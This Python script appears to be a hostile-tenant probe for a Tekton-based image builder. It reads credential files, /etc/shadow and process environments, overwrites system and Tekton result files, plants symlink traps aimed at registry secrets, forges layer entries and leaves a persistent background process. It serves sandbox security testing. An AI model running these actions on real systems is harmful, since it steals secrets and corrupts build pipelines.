"""Tries what the author of a package or of a repository must not be able to do.

What it could read and write it prints, each line with a marker, and keeps in a
file in the image, so that a test can look for secrets in both. It never fails:
whoever calls it decides how to go on.
"""

import glob
import itertools
import os
import socket
import stat
import subprocess
import sys
import time

MARKER = "METEOR-HOSTILE"
REPORT = "meteor-hostile-report.txt"
MOST = 4096

lines = []


def say(what, path, detail=""):
    line = f"{MARKER} {what} {path} {detail}".rstrip()
    lines.append(line)
    print(line, flush=True)


def attempt(what, path, action):
    try:
        detail = action()
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        say("refused", path, f"{what}: {error}")
    else:
        say(what, path, "" if detail is None else repr(detail))


def content(path):
    with open(path, "rb") as file:
        return file.read(MOST)


def read_secrets():
    """Tokens, credentials, and what the pod's other steps left or will use."""
    places = [
        "/var/run/secrets", "/run/secrets", "/tekton", "/meteor", "/workspace", "/builder", "/etc/secrets",
        "~/.docker", "~/.config", "~/.netrc", "~/.git-credentials", "~/.ssh", "~/.pip", "/root",
        "/tmp", "/etc/pip.conf", "/etc/shadow", "/etc/kubernetes", "/var/lib/kubelet",
    ]
    for place in map(os.path.expanduser, places):
        if os.path.isfile(place):
            attempt("read", place, lambda: content(place))
        for path in itertools.islice(files_below(place), 200):
            attempt("read", path, lambda: content(path))


def files_below(place):
    """Small files, none of them among Python's own."""
    for top, folders, names in os.walk(place):
        folders[:] = [f for f in folders if f not in ("site-packages", "overlay", "normal")]
        for name in names:
            path = os.path.join(top, name)
            found = os.lstat(path)
            if stat.S_ISREG(found.st_mode) and found.st_size < 1 << 16 and not name.endswith((".py", ".pyc")):
                yield path


def read_processes():
    for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/mountinfo"):
        attempt("read", path, lambda: content(path))
    for process in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline"):
            attempt("read", f"{process}/{name}", lambda: content(f"{process}/{name}"))
        for link in ("root", "cwd"):
            attempt("listed", f"{process}/{link}", lambda: sorted(os.listdir(f"{process}/{link}/"))[:50])


def write(path, text, flags=os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
    descriptor = os.open(path, flags, 0o777)
    try:
        os.write(descriptor, text.encode())
    finally:
        os.close(descriptor)


def write_elsewhere():
    """What trusted steps execute, read or report."""
    result = '{"reason":"PackageNotFound","message":"METEOR-HOSTILE was here"}'
    for path in (
        "/tekton/results/image", "/tekton/results/IMAGE_URL", "/tekton/results/IMAGE_DIGEST", "/tekton/results/failure",
        "/tekton/termination", "/tekton/bin/entrypoint", "/tekton/run/0/out", "/tekton/run/9/out", "/tekton/steps/hostile",
        "/meteor/bin/builder", "/meteor/hostile", "/workspace/hostile", "/dev/termination-log",
        "/etc/passwd", "/usr/bin/python3", "/etc/ld.so.preload", "/proc/sys/kernel/core_pattern",
    ):
        attempt("wrote", path, lambda: write(path, result))
    for folder in glob.glob("/meteor/*") + ["/tekton/results"]:
        attempt("linked", f"{folder}/IMAGE_DIGEST", lambda: replace_by_link(f"{folder}/hostile-link", "/etc/passwd"))


def replace_by_link(path, target):
    if os.path.lexists(path):
        os.remove(path)
    os.symlink(target, path)


def write_into_layer(root):
    """Names and types that a careless packer puts into a layer, or chokes on."""
    folder = os.path.join(root, "meteor-hostile")
    os.makedirs(folder, exist_ok=True)
    inside = lambda name: os.path.join(folder, name)  # noqa: E731
    attempt("wrote", "../../", lambda: write(os.path.join(folder, "../../../../../../../../hostile-was-here"), MARKER))
    attempt("made a device", inside("null"), lambda: os.mknod(inside("null"), 0o666 | stat.S_IFCHR, os.makedev(1, 3)))
    attempt("made a device", inside("disk"), lambda: os.mknod(inside("disk"), 0o666 | stat.S_IFBLK, os.makedev(8, 0)))
    attempt("made a pipe", inside("pipe"), lambda: os.mkfifo(inside("pipe")))
    attempt("made a socket", inside("socket"), lambda: listen(inside("socket")))
    attempt("linked", inside("up"), lambda: replace_by_link(inside("up"), "../../../../../../etc/shadow"))
    attempt("linked", inside("out"), lambda: replace_by_link(inside("out"), "/var/run/secrets"))
    attempt("linked", inside("loop"), lambda: replace_by_link(inside("loop"), "loop"))
    attempt("hard-linked", inside("passwd"), lambda: os.link("/etc/passwd", inside("passwd")))
    attempt("made a whiteout", inside(".wh.lib"), lambda: write(inside(".wh.lib"), ""))
    attempt("made a whiteout", root, lambda: write(os.path.join(root, ".wh.bin"), ""))
    attempt("made a whiteout", inside(".wh..wh..opq"), lambda: write(inside(".wh..wh..opq"), ""))
    attempt("wrote", inside("set-user-id"), lambda: set_user_id(inside("set-user-id")))
    attempt("wrote", inside("new\\nline"), lambda: write(inside("new\nline"), MARKER))
    attempt("wrote", inside("not UTF-8"), lambda: write(os.fsencode(folder) + b"/\xff\xfe", MARKER))
    attempt("wrote", inside("long"), lambda: write(inside("n" * 255), MARKER))
    attempt("wrote", inside("sparse"), lambda: sparse(inside("sparse")))
    attempt("set an attribute", inside("attribute"), lambda: attribute(inside("attribute")))


def listen(path):
    socket.socket(socket.AF_UNIX).bind(path)


def set_user_id(path):
    write(path, "#!/bin/sh\n")
    os.chmod(path, 0o6777)


def sparse(path):
    """A quarter of a gibibyte that takes no room on the disk."""
    write(path, "")
    os.truncate(path, 256 << 20)


def attribute(path):
    write(path, MARKER)
    os.setxattr(path, "user.meteor-hostile", MARKER.encode())


def ask_network():
    """The apiserver, the kubelet and a cloud's metadata, without a token."""
    for host, port in (("kubernetes.default.svc", 443), ("10.244.0.1", 10250), ("169.254.169.254", 80)):
        attempt("reached", f"{host}:{port}", lambda: socket.create_connection((host, port), 1).close())


def stay_behind():
    """A process that lives on and goes on trying when its parent has ended."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(null, descriptor)
    os.closerange(3, 1024)
    for _ in range(600):
        time.sleep(0.1)
        for path in ("/tekton/results/image", "/tekton/results/failure", "/meteor/hostile-stayed"):
            try:
                write(path, "METEOR-HOSTILE stayed")
            except OSError:
                pass
    os._exit(0)


def set_traps():
    """Links and a pipe where Tekton's entry point reads, in the steps that come later, with these steps' rights."""
    secrets = ["/meteor/push-secret/.dockerconfigjson", "/meteor/pull-secret/.dockerconfigjson", "/meteor/push-token/token"]
    names = ["image", "IMAGE_URL", "IMAGE_DIGEST", "built", "failure"]
    for number, name in enumerate(names):
        path = f"/tekton/results/{name}"
        attempt("linked", path, lambda: replace_by_link(path, secrets[number % len(secrets)]))
    attempt("made sticky", "/tekton/results", lambda: os.chmod("/tekton/results", 0o1777))
    attempt("linked", "/tekton/artifacts", lambda: replace_by_link("/tekton/artifacts/provenance.json", secrets[0]))
    attempt("made a pipe", "/tekton/artifacts", lambda: os.mkfifo("/tekton/artifacts/trap"))


def main(root=sys.prefix, layer=True):
    say("is", f"{os.getuid()}:{os.getgid()}", f"groups {os.getgroups()}, in {os.getcwd()}")
    for name, value in sorted(os.environ.items()):
        say("environment", name, repr(value))
    steps = [read_secrets, read_processes, write_elsewhere, set_traps, ask_network, stay_behind]
    if layer:
        steps.insert(3, lambda: write_into_layer(root))
    for step in steps:
        try:
            step()
        except Exception as error:  # whatever it is, the next attempt is to be made
            say("failed", getattr(step, "__name__", "step"), repr(error))
    attempt("wrote", REPORT, lambda: write(os.path.join(root, REPORT), "\n".join(lines) + "\n", os.O_WRONLY | os.O_CREAT | os.O_APPEND))


if __name__ == "__main__":
    main(*sys.argv[1:])
